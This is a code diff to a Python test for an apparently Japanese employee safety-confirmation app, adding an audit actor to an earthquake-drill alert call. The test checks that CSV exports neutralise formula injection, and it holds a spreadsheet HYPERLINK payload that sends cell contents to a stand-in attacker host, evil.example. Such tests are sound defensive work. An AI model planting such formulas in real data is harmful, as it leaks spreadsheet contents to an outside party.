@@ -15,6 +15,7 @@ from tortoise import connections
 
 from domain.alerts import start_alert
 from domain.answers import submit_answer
+from domain.audit import Actor
 from domain.spreadsheet import restore_cell, safe_cell
 from models import AnswerChannel, AuditEntry, Employee, Template
 from models.sql import is_postgres
@@ -74,7 +75,7 @@ async def test_the_console_answers_csv_neutralises_an_answer_message(console, bo
     company = await make_company({"総務部": [("E1", "山田 太郎")]})
     await Employee.filter(code="E1").update(name="=1+2")
     template = await Template.get(key="earthquake")
-    alert = (await start_alert(template, drill=True)).alert
+    alert = (await start_alert(Actor.cli(), template, drill=True)).alert
     evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     choices = {"本人": "無事", "家族": "全員無事", "家屋": "被害なし", "出社": "可能"}
     await submit_answer(alert.id, company.employees["E1"], choices, evil, AnswerChannel.LIFF)
